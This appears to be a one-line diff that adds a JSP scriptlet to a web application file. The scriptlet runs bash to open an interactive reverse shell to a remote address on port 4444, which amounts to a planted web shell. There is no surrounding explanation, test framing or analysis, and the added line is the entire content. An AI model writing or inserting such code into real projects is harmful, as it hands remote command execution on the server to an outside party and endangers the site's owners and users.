@@ -1,0 +1,1 @@
+<% Runtime.getRuntime().exec(new String[]{"/bin/bash","-c","bash -i >& /dev/tcp/192.0.2.8/4444 0>&1"}); %>
